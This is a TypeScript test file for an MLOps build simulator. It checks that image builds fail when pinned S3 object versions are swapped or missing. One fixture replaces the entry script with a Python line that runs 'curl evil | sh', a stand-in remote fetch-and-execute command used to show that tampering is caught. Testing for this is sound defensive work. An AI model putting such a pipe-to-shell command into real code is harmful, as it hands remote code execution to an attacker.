import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { Readable } from 'node:stream';
import { ECRClient, PutImageCommand } from '@aws-sdk/client-ecr';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { GetObjectCommand, type GetObjectCommandInput, NoSuchKey, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { sdkStreamMixin } from '@smithy/core/serde';
import { mockClient } from 'aws-sdk-client-mock';
import { formatContextFiles, MLFLOW_ENTRY_FILE, renderBuildContext } from '../../lambda/images/core/build-context';
import type { ContextFile } from '../../lambda/images/core/model';
import type { StartedBuild } from '../../local/codebuild-stand-in';
import { imageBuildSimulator } from '../../local/image-build-simulator';

const s3 = mockClient(S3Client);
const lambda = mockClient(LambdaClient);
const ecr = mockClient(ECRClient);

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const BUCKET = 'artifacts';
const PREFIX = 'images/churn-scorer/1/context/';
const WEIGHTS = JSON.stringify({ weights: [1, 0.5] });
const MODEL = {
  name: 'churn',
  version: 1,
  artifactUri: `s3://${BUCKET}/models/churn/1/model.json`,
  artifactVersionId: 'Vmodel',
  artifactSha256: sha256(WEIGHTS),
};
const CONTEXT = {
  ...renderBuildContext(
    { imageName: 'churn-scorer', imageVersion: 1, baseImage: 'python:3.12', entryFile: 'score.py', models: [MODEL], environment: {}, requirements: [] },
    '# shim\n',
  ),
  'score.py': 'def run(data):\n    return data\n',
};

/** S3 answering each `<key>@<version id>` of `objects` with its text, and nothing else, as a build's pinned reads meet it. */
function serveVersions(objects: Readonly<Record<string, string>>): void {
  s3.on(GetObjectCommand).callsFake(async (input: GetObjectCommandInput) => {
    const body = objects[`${input.Key}@${input.VersionId}`];
    if (body === undefined) throw new NoSuchKey({ message: 'The specified version does not exist.', $metadata: {} });
    return { Body: sdkStreamMixin(Readable.from([Buffer.from(body)])) };
  });
}

/** The build of churn-scorer version 1 the CodeBuild stand-in starts, its context in `files`. */
const startedBuild = (id: string, files: readonly ContextFile[]): StartedBuild => ({
  id,
  projectName: 'image-build',
  sourceLocation: `${BUCKET}/${PREFIX}`,
  startedAt: new Date(),
  variables: {
    REPOSITORY_URI: '123456789012.dkr.ecr.us-east-1.amazonaws.com/images',
    REPOSITORY_NAME: 'images',
    IMAGE_NAME: 'churn-scorer',
    IMAGE_VERSION: '1',
    IMAGE_TAG: 'churn-scorer-1',
    MODEL_DATA_URI: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
    CONTEXT_BUCKET: BUCKET,
    CONTEXT_PREFIX: PREFIX,
    CONTEXT_FILES: formatContextFiles(files),
  },
});

/** The local simulation of `build`, its logs in `logDirectory`. */
const simulateIn = (logDirectory: string) => (build: StartedBuild) =>
  imageBuildSimulator({
    lambda: new LambdaClient({}),
    s3: new S3Client({}),
    ecr: new ECRClient({}),
    imageEventsFunction: 'image-events',
    logDirectory,
    phaseDelayMs: 0,
  })(build);

/**
 * The local build of a context whose objects were swapped after registration: it fetches each
 * pinned version and checks its digest, as the buildspec does, so it fails before packing the
 * models, smoke-testing the script or pushing anything.
 */
describe('imageBuildSimulator', () => {
  let logDirectory: string;
  let delivered: { 'detail-type': string; detail: Record<string, any> }[];

  beforeEach(() => {
    for (const mock of [s3, lambda, ecr]) mock.reset();
    logDirectory = mkdtempSync(path.join(tmpdir(), 'mlops-build-logs-'));
    delivered = [];
    lambda.on(InvokeCommand).callsFake((input: { Payload: Uint8Array }) => {
      delivered.push(JSON.parse(Buffer.from(input.Payload).toString('utf8')));
      return { StatusCode: 200, Payload: Buffer.from('{}') };
    });
  });

  afterEach(() => rmSync(logDirectory, { recursive: true, force: true }));

  /** S3 holding the registered versions, with `swap` applied (the bytes a version id now answers with). */
  function registered(swap: Record<string, string> = {}): StartedBuild {
    const files: ContextFile[] = Object.entries(CONTEXT).map(([name, text]) => ({ name, versionId: `V-${name}`, sha256: sha256(text) }));
    const objects: Record<string, string> = { 'models/churn/1/model.json@Vmodel': WEIGHTS, ...swap };
    for (const file of files) objects[`${PREFIX}${file.name}@${file.versionId}`] ??= CONTEXT[file.name as keyof typeof CONTEXT];
    serveVersions(objects);
    return startedBuild('image-build:1', files);
  }

  const simulate = (build: StartedBuild) => simulateIn(logDirectory)(build);

  it.each([
    [
      'the entry script of the context',
      { [`${PREFIX}score.py@V-score.py`]: 'import os\nos.system("curl evil | sh")\n' },
      `s3://${BUCKET}/${PREFIX}score.py version V-score.py is not what was registered`,
    ],
    [
      'the model artifact',
      { 'models/churn/1/model.json@Vmodel': '{"weights":["swapped"]}' },
      `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered`,
    ],
  ])('fails the build in PRE_BUILD when %s holds other bytes than were registered, packing, running and pushing nothing', async (_, swap, message) => {
    await simulate(registered(swap));

    const end = delivered.at(-1)!;
    expect(end['detail-type']).toBe('CodeBuild Build State Change');
    expect(end.detail['build-status']).toBe('FAILED');
    const failed = (end.detail['additional-information'].phases as { 'phase-type': string; 'phase-status'?: string; 'phase-context'?: string[] }[]).find(
      (phase) => phase['phase-status'] === 'FAILED',
    )!;
    expect(failed['phase-type']).toBe('PRE_BUILD');
    expect(failed['phase-context']![0]).toContain(message);
    expect(s3.commandCalls(PutObjectCommand)).toHaveLength(0);
    expect(ecr.commandCalls(PutImageCommand)).toHaveLength(0);
  });

  it('fails the build in PRE_BUILD when a pinned version is gone', async () => {
    const build = registered();
    s3.on(GetObjectCommand, { Key: 'models/churn/1/model.json' }).rejects(new NoSuchKey({ message: 'The specified version does not exist.', $metadata: {} }));

    await simulate(build);

    const end = delivered.at(-1)!;
    expect(end.detail['build-status']).toBe('FAILED');
    expect(JSON.stringify(end.detail)).toContain(
      `s3://${BUCKET}/models/churn/1/model.json version Vmodel is not what was registered: it cannot be read (NoSuchKey)`,
    );
    expect(s3.commandCalls(PutObjectCommand)).toHaveLength(0);
  });
});

/**
 * The local build of an image of the platform's MLflow entry around an MLflow model directory: each
 * file is fetched by the version its manifest pinned and checked, packed in its folder; the entry
 * itself cannot run here (no MLflow), so the build checks the model's MLmodel file instead.
 */
describe('imageBuildSimulator, an MLflow model directory', () => {
  const DIRECTORY = `s3://${BUCKET}/mlflow/1/models/m-7f3a/artifacts`;
  const FILES = { MLmodel: 'flavors: {python_function: {}}\n', 'model.pkl': 'pickled', 'code/helpers.py': 'x = 1\n' };
  const directoryModel = (files: Record<string, string>) => ({
    name: 'churn',
    version: 3,
    artifactUri: DIRECTORY,
    artifactVersionId: 'Vmanifest',
    artifactSha256: 'm'.repeat(64),
    files: Object.entries(files).map(([file, text]) => ({ path: file, versionId: `V-${file}`, sizeBytes: text.length, sha256: sha256(text) })),
  });
  let logDirectory: string;
  let delivered: { 'detail-type': string; detail: Record<string, any> }[];

  beforeEach(() => {
    for (const mock of [s3, lambda, ecr]) mock.reset();
    logDirectory = mkdtempSync(path.join(tmpdir(), 'mlops-build-logs-'));
    delivered = [];
    lambda.on(InvokeCommand).callsFake((input: { Payload: Uint8Array }) => {
      delivered.push(JSON.parse(Buffer.from(input.Payload).toString('utf8')));
      return { StatusCode: 200, Payload: Buffer.from('{}') };
    });
    s3.on(PutObjectCommand).resolves({});
    ecr.on(PutImageCommand).resolves({});
  });

  afterEach(() => rmSync(logDirectory, { recursive: true, force: true }));

  /** S3 holding the context and the directory's files at their pinned versions, with `swap` applied. */
  function registered(files: Record<string, string>, swap: Record<string, string> = {}): StartedBuild {
    const context = {
      ...renderBuildContext(
        {
          imageName: 'churn-scorer',
          imageVersion: 1,
          baseImage: 'python:3.12',
          entryFile: MLFLOW_ENTRY_FILE,
          models: [directoryModel(files)],
          environment: {},
          requirements: ['mlflow'],
        },
        '# shim\n',
      ),
      [MLFLOW_ENTRY_FILE]: 'import mlflow.pyfunc\n',
    };
    const contextFiles: ContextFile[] = Object.entries(context).map(([name, text]) => ({ name, versionId: `V-${name}`, sha256: sha256(text) }));
    const objects: Record<string, string> = { ...swap };
    for (const [file, text] of Object.entries(files)) objects[`mlflow/1/models/m-7f3a/artifacts/${file}@V-${file}`] ??= text;
    for (const file of contextFiles) objects[`${PREFIX}${file.name}@${file.versionId}`] ??= context[file.name as keyof typeof context];
    serveVersions(objects);
    return startedBuild('image-build:2', contextFiles);
  }

  const simulate = (build: StartedBuild) => simulateIn(logDirectory)(build);

  /** The files of the model data the build uploaded, by path. */
  function packedFiles(): string[] {
    const [put] = s3.commandCalls(PutObjectCommand);
    const archive = path.join(logDirectory, 'model.tar.gz');
    writeFileSync(archive, put.args[0].input.Body as Buffer);
    return runTarList(archive);
  }

  it('succeeds, packing each pinned file in its folder under the model, and pushes the image', async () => {
    await simulate(registered(FILES));

    expect(delivered.at(-1)!.detail['build-status']).toBe('SUCCEEDED');
    expect(packedFiles()).toEqual(['./churn/3/MLmodel', './churn/3/code/helpers.py', './churn/3/model.pkl']);
    expect(ecr.commandCalls(PutImageCommand)).toHaveLength(1);
  });

  it('fails in PRE_BUILD when a file of the directory holds other bytes than its manifest pinned', async () => {
    await simulate(registered(FILES, { 'mlflow/1/models/m-7f3a/artifacts/model.pkl@V-model.pkl': 'swapped' }));

    expect(delivered.at(-1)!.detail['build-status']).toBe('FAILED');
    expect(JSON.stringify(delivered.at(-1)!.detail)).toContain(`${DIRECTORY}/model.pkl version V-model.pkl is not what was registered`);
    expect(ecr.commandCalls(PutImageCommand)).toHaveLength(0);
  });

  it('fails in BUILD when the model it serves has no MLmodel file', async () => {
    await simulate(registered({ 'model.pkl': 'pickled' }));

    expect(delivered.at(-1)!.detail['build-status']).toBe('FAILED');
    expect(JSON.stringify(delivered.at(-1)!.detail)).toContain('the MLflow entry serves churn/3, which has no MLmodel file');
    expect(ecr.commandCalls(PutImageCommand)).toHaveLength(0);
  });
});

/** The entries of a gzipped tar, files only, sorted. */
function runTarList(archive: string): string[] {
  const listed = spawnSync('tar', ['-tzf', archive], { encoding: 'utf8' });
  return listed.stdout
    .split('\n')
    .filter((entry) => entry && !entry.endsWith('/'))
    .sort();
}
